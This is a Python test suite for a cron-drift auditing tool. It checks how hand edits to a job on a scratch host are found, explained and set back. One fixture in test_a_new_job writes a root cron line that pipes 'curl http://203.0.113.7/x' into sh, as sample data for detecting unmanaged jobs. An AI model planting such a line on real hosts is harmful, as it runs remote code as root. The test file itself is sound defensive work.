"""One job on one host, changed by hand in every way: found, named, explained, and set back."""

import program
import report_shape
import scratch

JOBS = """\
MAILTO=shop@example.com
# plumbline: id=report
30 4 * * * www-data timeout 1h /srv/shop/bin/report --daily
"""
CRONTAB = "SHELL=/bin/sh\n17 * * * * root /usr/local/sbin/tidy\n"
TAB = "cron.d/shop"
FILE = "etc/cron.d/shop"
DAY = 86400
BEGIN = 1_800_000_000


class HandChange(program.Case):
    """Truth is what `import` wrote of the host, and a first clean audit has filled the store."""

    def setUp(self):
        super().setUp()
        self.host = scratch.Host(self.work / "web")
        self.host.write("etc/crontab", CRONTAB)
        self.host.write(FILE, JOBS)
        scratch.config(self.work, {"web": "{kind: cron, root: ./web}"})
        self.truth = scratch.Truth(self.work / "truth")
        self.plumbline("import", "--platform", "web", "--team", "shop", "--out", "truth/workflows")
        self.truth.commit()
        self.now = BEGIN
        self.assertEqual(self.look()["findings"], [])

    def at_once(self, *arguments, code=0):
        """Another command right after the last audit."""
        return self.plumbline(*arguments, code=code, env={"SOURCE_DATE_EPOCH": str(self.now + 60)})

    def look(self, *arguments, code=None):
        """The next hourly audit."""
        self.now += 3600
        run = self.run_program(
            "audit", "--output", "json", *arguments, env={"SOURCE_DATE_EPOCH": str(self.now)}
        )
        self.assertEqual(report_shape.complaints(run.out), [])
        report = run.json()
        self.assertEqual(run.code, report["exit_code"], run)
        if code is not None:
            self.assertEqual(run.code, code, run)
        return report

    def only_finding(self, cause, field, code=1):
        report = self.look(code=code)
        self.assertEqual(
            [(f["cause"], f["field"]) for f in report["findings"]], [(cause, field)],
            [f["message"] for f in report["findings"]],
        )  # fmt: skip
        return report["findings"][0]

    def explained(self, finding, *words):
        text = self.at_once("explain", finding["key"][:12]).out
        said = text + " ".join(text.split())  # a sentence may be broken anywhere
        for word in words:
            self.assertIn(word, said)
        return text

    def set_back(self, finding, how="set back"):
        """Undone by hand: the next audit is clean and says how it ended."""
        self.host.write(FILE, JOBS)
        report = self.look(code=0)
        self.assertEqual(report["findings"], [])
        (resolved,) = report["resolved"]
        self.assertEqual(resolved["key"], finding["key"])
        self.assertIn(how, resolved["how"])

    def test_another_time(self):
        self.host.edit(FILE, "30 4", "45 5")
        finding = self.only_finding("drifted", "schedule")
        self.assertIn("45 5 * * *", finding["message"])
        self.assertEqual(
            (finding["truth"]["text"], finding["live"]["text"], finding["base"]["text"]),
            ("30 4 * * * (Europe/Berlin)", "45 5 * * * (Europe/Berlin)", "30 4 * * * (Europe/Berlin)"),
        )
        self.assertEqual(finding["live"]["source"]["native_path"], f"{TAB}:3")
        self.assertTrue(finding["truth"]["source"]["file"].startswith("workflows/web-"))
        self.explained(finding, "45 5 * * *", "30 4 * * *", f"{TAB}:3", finding["truth"]["source"]["file"])
        self.set_back(finding)

    def test_paused_by_a_comment(self):
        self.host.edit(FILE, "30 4", "# 30 4")
        finding = self.only_finding("drifted", "enabled")
        self.assertIn("off", finding["message"])
        self.explained(finding, "off", "on", f"{TAB}:3")
        self.set_back(finding)

    def test_paused_by_the_marker(self):
        self.host.edit(FILE, "30 4", "#plumbline:paused# 30 4")
        finding = self.only_finding("drifted", "enabled")
        self.assertIn("off", finding["message"])
        self.set_back(finding)

    def test_another_user(self):
        self.host.edit(FILE, "www-data", "root")
        finding = self.only_finding("drifted", "run_as")
        self.assertIn("root", finding["message"])
        self.assertIn("www-data", finding["message"])
        self.explained(finding, "www-data", "root")
        self.set_back(finding)

    def test_another_time_limit_in_the_wrapper(self):
        self.host.edit(FILE, "timeout 1h", "timeout 3h")
        finding = self.only_finding("drifted", "timeout")
        self.assertIn("3h", finding["message"])
        self.explained(finding, "3h", "1h")
        self.set_back(finding)

    def test_the_wrapper_taken_away(self):
        self.host.edit(FILE, "timeout 1h ", "")
        finding = self.only_finding("drifted", "timeout")
        self.assertIn("1h", finding["message"])
        self.set_back(finding)

    def test_a_lock_that_nobody_declared(self):
        self.host.edit(FILE, "timeout 1h", "flock -n /run/lock/report timeout 1h")
        finding = self.only_finding("drifted", "concurrency")
        self.set_back(finding)

    def test_mail_to_somebody_else(self):
        self.host.edit(FILE, "shop@example.com", "intern@example.com")
        finding = self.only_finding("drifted", "notify")
        self.assertIn("intern@example.com", finding["message"])
        self.explained(finding, "intern@example.com", "shop@example.com")
        self.set_back(finding)

    def test_no_mail_any_more(self):
        self.host.edit(FILE, "shop@example.com", '""')
        self.set_back(self.only_finding("drifted", "notify"))

    def test_another_command_under_the_same_marker(self):
        self.host.edit(FILE, "--daily", "--weekly")
        finding = self.only_finding("drifted", "action")
        self.set_back(finding)

    def test_a_file_that_moved(self):
        """The job runs as before; one finding says where it is now."""
        self.host.path(FILE).rename(self.host.path("etc/cron.d/shop-new"))
        report = self.look(code=1)
        message = " ".join(f["message"] + " ".join(f["notes"]) for f in report["findings"])
        self.assertEqual({f["cause"] for f in report["findings"]} - {"unmanaged"}, {"missing"})
        self.assertIn("renamed", message)
        self.assertIn("cron.d/shop-new", message)

    def test_a_mode_that_cron_refuses(self):
        self.host.path(FILE).chmod(0o664)
        finding = self.only_finding("ineffective", None)
        self.assertIn("INSECURE MODE", finding["message"])
        self.explained(finding, "INSECURE MODE", TAB)
        self.host.path(FILE).chmod(0o644)
        self.assertEqual(self.look(code=0)["findings"], [])

    def test_a_name_that_cron_passes_by(self):
        self.host.path(FILE).rename(self.host.path(FILE + ".bak"))
        report = self.look(code=1)
        self.assertIn("missing", {f["cause"] for f in report["findings"]})

    def test_no_newline_at_the_end(self):
        self.host.write(FILE, JOBS.rstrip("\n"))
        finding = self.only_finding("ineffective", None)
        self.assertIn("newline", finding["message"])
        self.set_back(finding, "made effective")

    def test_a_job_that_was_deleted(self):
        self.host.write(FILE, "MAILTO=shop@example.com\n")
        finding = self.only_finding("missing", None)
        self.explained(finding, "nothing is there", f"{TAB}#report")
        self.set_back(finding, "")

    def test_a_new_job(self):
        self.host.write("etc/cron.d/fresh", "*/5 * * * * root curl http://203.0.113.7/x | sh\n")
        finding = self.only_finding("unmanaged", None, code=0)
        self.assertIn("cron.d/fresh", finding["message"])
        self.explained(finding, "import")
        self.host.path("etc/cron.d/fresh").unlink()
        self.assertEqual(self.look(code=0)["findings"], [])

    def test_a_change_in_git_that_is_not_rolled_out(self):
        self.truth.edit(self.truth_file(), "30 4 * * *", "30 3 * * *")
        self.truth.commit("Earlier")
        finding = self.only_finding("pending", "schedule")
        self.assertFalse(finding["base"]["inferred"])
        self.host.edit(FILE, "30 4", "30 3")
        (resolved,) = self.look(code=0)["resolved"]
        self.assertEqual(resolved["how"], "rolled out")

    def test_changed_on_both_sides(self):
        self.truth.edit(self.truth_file(), "30 4 * * *", "30 3 * * *")
        self.truth.commit("Earlier")
        self.host.edit(FILE, "30 4", "30 5")
        self.only_finding("conflict", "schedule")

    def test_truth_that_follows_ends_the_finding(self):
        self.host.edit(FILE, "30 4", "30 5")
        finding = self.only_finding("drifted", "schedule")
        self.truth.edit(self.truth_file(), "30 4 * * *", "30 5 * * *")
        self.truth.commit("Follow")
        (resolved,) = self.look(code=0)["resolved"]
        self.assertEqual((resolved["key"], resolved["how"]), (finding["key"], "adopted"))

    def truth_file(self) -> str:
        (file,) = self.truth.root.glob("workflows/*report*.yaml")
        return str(file.relative_to(self.truth.root))

    def test_a_lost_job_is_explained_with_the_lines_that_bring_it_back(self):
        self.host.write(FILE, "# nothing left\n")
        finding = self.only_finding("missing", None)
        self.explained(
            finding,
            "# plumbline: id=report",
            "30 4 * * * www-data timeout 1h /srv/shop/bin/report --daily",
            "Truth states `notify` too",
            "Not known of the old line: SHELL and PATH",
        )

    def test_a_lock_file_of_a_lost_job_is_not_promised(self):
        self.host.edit(FILE, "timeout 1h", "flock -n /run/lock/shop timeout 1h")
        self.look()
        self.truth.edit(self.truth_file(), "plumbline: v1\n", "plumbline: v1\nconcurrency: {max: 1, when_busy: skip}\n")
        self.truth.commit("Lock")
        self.host.write(FILE, "# nothing left\n")
        finding = self.only_finding("missing", None)
        self.explained(finding, "Not known of the old line: the lock file that it had")

    def test_a_new_job_is_to_be_imported_into_the_folder_of_truth(self):
        self.host.write("etc/cron.d/extra", "0 5 * * * root /srv/extra\n")
        finding = self.only_finding("unmanaged", None, code=0)
        self.explained(finding, "where what is declared is skipped", "--out", "truth/workflows")
        self.plumbline("import", "--platform", "web", "--team", "shop", "--out", "truth/workflows")
        self.truth.commit("Take it in")
        self.assertEqual(self.look(code=0)["findings"], [])

    def test_a_changed_input_is_shown(self):
        self.host.write("etc/cron.d/extra", "0 5 * * * root /srv/extra%first\n")
        finding = self.only_finding("unmanaged", None, code=0)
        self.assertIn("with the input first", finding["live"]["text"])

    def test_an_empty_standby_place_agrees_and_diff_says_why(self):
        self.truth.edit(self.truth_file(), "    id: ", "    role: standby\n    id: ")
        self.truth.commit("Stand by")
        self.host.write(FILE, "# nothing left\n")
        self.look(code=0)
        name = next(
            line.split(": ")[1]
            for line in self.truth.root.joinpath(self.truth_file()).read_text().splitlines()
            if line.startswith("workflow: ")
        )
        run = self.at_once("diff", name)
        self.assertIn("which will do for a standby place", " ".join(run.out.split()))

    def test_an_edited_job_without_a_marker_is_told_as_one(self):
        self.host.edit(FILE, "# plumbline: id=report\n", "")
        report = self.look(code=1)
        there, gone = sorted(report["findings"], key=lambda f: f["cause"], reverse=True)
        self.assertEqual((gone["cause"], there["cause"]), ("missing", "unmanaged"))
        self.assertEqual(gone["looks_like"]["key"], there["key"])
        self.assertEqual(there["looks_like"]["key"], gone["key"])
        self.explained(gone, "Look at both", there["key"], "put `# plumbline: id=report`")
        self.explained(there, "Look at both", gone["key"])

    def test_a_local_change_is_no_finding_and_explain_tells_it(self):
        text = self.host.path(FILE).read_text()
        self.host.write(FILE, "PATH=/opt/bin\n" + text)
        self.look(code=0)
        self.now += DAY
        self.host.write(FILE, "PATH=/opt/more\n" + text)
        report = self.look(code=0)
        self.assertEqual((report["verdict"], report["findings"]), ("agree", []))
        notes = [note for note in report["notes"] if note["kind"] == "local_change"]
        self.assertEqual(
            [(note["id"], note["text"]) for note in notes],
            [("cron.d/shop#report", 'env.PATH from "/opt/bin" to "/opt/more"')],
        )
        again = [note for note in self.look(code=0)["notes"] if note["kind"] == "local_change"]
        self.assertEqual(again, [], "it is told once")
        self.now += DAY
        self.host.edit(FILE, "timeout 1h", "timeout 3h")
        finding = self.look(code=1)["findings"][0]
        run = self.plumbline("explain", finding["key"], env={"SOURCE_DATE_EPOCH": str(self.now)})
        said = " ".join(run.out.split())
        self.assertIn('local change: env.PATH from "/opt/bin" to "/opt/more"', said)
        self.assertRegex(said, "LOCAL TO THIS PLACE [─-]* ?env.PATH /opt/more")
        diff = " ".join(self.at_once("diff", finding["workflow"], code=1).out.split())
        self.assertIn("web cron.d/shop#report env.PATH /opt/more", diff)

    def test_a_waiver_quiets_it_until_it_runs_out(self):
        self.host.edit(FILE, "timeout 1h", "timeout 3h")
        finding = self.only_finding("drifted", "timeout")
        self.truth.write(
            "workflows/waiver.yaml",
            "plumbline: v1\nkind: waiver\nselect: {platform: web, field: timeout}\n"
            "owner: ana@example.com\nreason: Year end\nexpires: 2027-01-20\n",
        )
        self.truth.commit("Waive")
        report = self.look(code=0)
        waived, ending = report["findings"]
        self.assertEqual((waived["key"], waived["waiver"]["reason"]), (finding["key"], "Year end"))
        self.assertEqual((ending["cause"], ending["rule"]), ("waiver-expiring", "PL3003"))
        self.assertEqual((report["summary"]["waived"], report["summary"]["findings"]), (1, 1))
        self.now += 10 * DAY
        report = self.look(code=1)
        self.assertEqual(
            {f["cause"] for f in report["findings"]}, {"drifted", "waiver-expired"}
        )

    def test_a_field_that_may_be_anything_is_counted_and_no_finding(self):
        self.host.edit(FILE, "timeout 1h", "timeout 3h")
        self.truth.edit(self.truth_file(), "timeout:", "concurrency: any\ntimeout:")
        text = (self.truth.root / self.truth_file()).read_text()
        kept = "".join(line for line in text.splitlines(True) if not line.startswith("timeout:"))
        self.truth.write(self.truth_file(), kept.replace("concurrency: any", "timeout: any"))
        self.truth.commit("Whatever")
        report = self.look(code=0)
        self.assertEqual((report["findings"], report["summary"]["any_fields"]), ([], 1))

    def test_what_git_is_silent_about_is_watched(self):
        """Silence is not blindness: live moves away from what was last seen."""
        text = (self.truth.root / self.truth_file()).read_text()
        self.assertIn("run_as: www-data\n", text)
        self.truth.write(self.truth_file(), text.replace("run_as: www-data\n", ""))
        self.truth.commit("Say nothing of the user")
        self.assertEqual(self.look(code=0)["findings"], [])
        self.host.edit(FILE, "www-data", "root")
        for _ in range(2):
            finding = self.only_finding("drifted", "run_as")
            self.assertIn("silent", finding["message"] + " ".join(finding["notes"]))
        self.set_back(finding)

    def test_removed_from_truth_and_still_running(self):
        (self.truth.root / self.truth_file()).unlink()
        commit = self.truth.commit("Retire the report")
        report = self.look()
        (finding,) = report["findings"]
        self.assertEqual(finding["cause"], "unmanaged")
        self.assertIn(commit[:8], finding["message"] + " ".join(finding["notes"]))

    def test_the_same_line_twice_runs_twice(self):
        self.host.write("etc/crontab", CRONTAB + CRONTAB.splitlines()[-1] + "\n")
        self.only_finding("overlap", None)

    def test_what_was_undone_is_remembered(self):
        self.host.edit(FILE, "30 4", "30 5")
        finding = self.only_finding("drifted", "schedule")
        self.set_back(finding, "set back by hand")
        self.host.edit(FILE, "30 4", "30 7")
        again = self.only_finding("drifted", "schedule")
        text = self.explained(again, "set back by hand")
        self.assertIn("30 5 * * *", text)

    def test_new_then_open_then_resolved_then_reopened(self):
        statuses = []
        self.host.edit(FILE, "30 4", "30 5")
        first = self.only_finding("drifted", "schedule")
        statuses.append(first["status"])
        second = self.only_finding("drifted", "schedule")
        statuses.append(second["status"])
        self.set_back(second, "set back by hand")
        self.host.edit(FILE, "30 4", "30 6")
        third = self.only_finding("drifted", "schedule")
        statuses.append(third["status"])
        self.assertEqual(statuses, ["new", "open", "reopened"])
        self.assertEqual(first["key"], third["key"])
        self.assertEqual(first["first_seen"], second["first_seen"])
        self.assertGreater(third["first_seen"], second["last_seen"])

    def test_only_new_lists_what_is_new_and_the_exit_code_stands_on_all(self):
        self.host.edit(FILE, "30 4", "30 5")
        self.look(code=1)
        self.host.edit("etc/crontab", "17 *", "18 *")
        text = self.at_once("audit", "--only", "new", code=1).out
        self.assertIn("18 * * * *", text)
        self.assertNotIn("30 5 * * *", text)
        again = self.at_once("audit", "--only", "new", code=1).out
        self.assertNotIn("18 * * * *", again)

    def test_diff_shows_every_field_of_the_job_side_by_side(self):
        self.host.edit(FILE, "30 4", "30 5")
        (file,) = self.truth.root.glob("workflows/*report*.yaml")
        text = self.at_once("diff", f"shop/{file.stem}", code=1).out
        for word in ("schedule", "30 4 * * *", "30 5 * * *", "timeout", "1h", "run_as", "www-data", "web"):
            self.assertIn(word, text)
        self.assertEqual(self.at_once("diff", file.stem, code=1).out, text)
        self.assertIn("shop/nothing", self.plumbline("diff", "shop/nothing", code=4).err)

    def test_explain_tells_what_happened_before(self):
        self.host.edit(FILE, "30 4", "30 5")
        self.look(code=1)
        self.host.edit(FILE, "30 5", "30 6")
        finding = self.only_finding("drifted", "schedule")
        text = self.explained(finding, "30 5 * * *", "30 6 * * *", "PL1001")
        self.assertIn("2027-01-15", text)

    def test_a_zone_file_that_is_no_zone_is_not_read_and_never_clean(self):
        (self.host.root / "etc/localtime").unlink()
        (self.host.root / "etc/timezone").unlink()
        self.host.write("etc/localtime", "half a zone")
        finding = self.only_finding("unread", None, code=3)
        self.assertIn("/etc/localtime", finding["message"])

    def test_a_place_that_sources_leave_out_is_unread_not_missing(self):
        scratch.config(self.work, {"web": "{kind: cron, root: ./web, sources: [crontab]}"})
        finding = self.only_finding("unread", None, code=3)
        self.assertIn("does not ask for cron.d/shop#report", finding["message"])

    def test_explain_refuses_a_key_that_is_none(self):
        self.assertIn("at least its first four digits", self.plumbline("explain", "ab", code=4).err)
        self.plumbline("explain", "0123456789abcdef", code=2)


if __name__ == "__main__":
    program.main()
